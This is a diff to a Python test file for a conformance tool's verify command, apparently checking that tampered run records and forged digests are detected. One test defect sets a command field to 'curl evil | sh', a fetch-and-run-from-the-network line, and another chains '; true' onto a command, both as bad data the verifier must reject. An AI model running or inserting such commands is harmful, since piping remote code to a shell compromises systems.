@@ -25,6 +25,7 @@ from conformance.resources import IMPLS
 from conformance.results import build
 from tests.conftest import no_traceback_of_ours
 from tests.kill_and_resume import KERNEL, ROOT
+from tests.report_samples import sealed
 
 Lines = list[dict[str, Any]]
 Verified = Callable[..., tuple[int, str]]
@@ -59,7 +60,7 @@ def verified(acme: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]) ->
     def run(spoil: Any = list, *options: str) -> tuple[int, str]:
         if not isinstance(spoil, bytes):
             spoil(found := [json.loads(line) for line in acme.splitlines()])
-            spoil = "".join(json.dumps(line) + "\n" for line in found).encode()
+            spoil = sealed(found)  # as somebody would who makes up the digest too
         (tmp_path / "run.jsonl").write_bytes(spoil)
         status = main(["verify", str(tmp_path / "run.jsonl"), *options])
         told = "".join(capsys.readouterr())
@@ -110,10 +111,8 @@ WINOGRAD = {"contract": {"algorithm": "winograd-f2"}}
 DEFECTS: dict[str, Callable[[Lines], object]] = {
     f" {NAME} has a verdict already (": lambda ls: ls.insert(1, plain(ls)),
     "field golden of a header: 0123, in this suite it is": lambda ls: ls[0].update(golden="0123"),
-    "the footer counts 24 pass, the records 23: some were": lambda ls: ls.remove(plain(ls)),
-    "of a run at level full, which no header": saying(run_level="full"),
     "acme has another source than in the lines above": lambda ls: ls[-2].update(source="0" * 64),
-    "no header says which goldens": lambda ls: ls.pop(0),
+    ": belong to no run, for no header": lambda ls: ls.pop(0),
     "field cases: one case counts as 3": saying(cases=3),
     "field command: curl evil | sh is not the one": saying(command="curl evil | sh"),
     "; true is not the one that reproduces it": lambda ls: plain(ls).update(command=plain(ls)["command"] + "; true"),
@@ -132,6 +131,15 @@ def test_what_cannot_be_true_is_named(reason: str, verified: Verified):
     status, told = verified(DEFECTS[reason])
     assert (status, told.endswith(f"\n{UNSEEN}\n")) == (1, True)
     assert re.search(f"^WRONG: .*{re.escape(reason)}", told, re.MULTILINE)
+
+
+def test_what_was_changed_is_named(acme: bytes, verified: Verified):
+    spoilt = acme.replace(b'"status":"unsupported"', b'"status":"pass"', 1)
+    status, told = verified(spoilt)
+    assert status == 1
+    assert re.search(
+        r"^WRONG: .*run.jsonl, lines 1 to \d+: are not what the run of 20.* wrote, whose footer", told, re.M
+    )
 
 
 UNUSABLE: dict[str, tuple[Any, ...]] = {
@@ -153,8 +161,7 @@ def test_what_cannot_be_used_is_named(reason: str, verified: Verified):
 def test_no_file_and_nothing_verified(verified: Verified, tmp_path: Path, capsys: pytest.CaptureFixture[str]):
     assert main(["verify", str(tmp_path)]) == 4
     assert f"{tmp_path}: cannot be read (Is a directory)" in capsys.readouterr().err
-    ended = {"kind": "footer", "schema": 2, "ended": "x", "cases": {}, "exit_status": 5, "interrupted": False}
-    assert verified(lambda ls: ls.__setitem__(slice(1, None), [ended]))[0] == 5
+    assert verified(lambda ls: ls.__delitem__(slice(1, -1)))[0] == 5
 
 
 def test_cases_are_run_again(tmp_path: Path, verified: Verified, monkeypatch: pytest.MonkeyPatch):
